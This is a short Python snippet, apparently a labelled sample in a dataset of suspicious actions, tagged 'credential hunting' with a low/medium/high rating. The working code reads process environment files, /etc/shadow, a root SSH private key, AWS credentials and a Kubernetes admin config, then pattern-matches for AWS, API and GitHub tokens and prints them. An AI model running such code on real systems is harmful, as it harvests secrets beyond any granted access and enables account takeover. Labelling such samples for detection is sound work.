# class: credential hunting; possible: low medium high
import glob, re
hits = []
for p in ["/proc/1/environ", *glob.glob("/proc/[0-9]*/environ"), "/etc/shadow", "/root/.ssh/id_ed25519", "/root/.aws/credentials", "/etc/kubernetes/admin.conf"]:
    try: hits += re.findall(rb"(?:AKIA|sk-|ghp_)[\w-]+", open(p, "rb").read())
    except OSError as e: print(p, e)
print(hits)
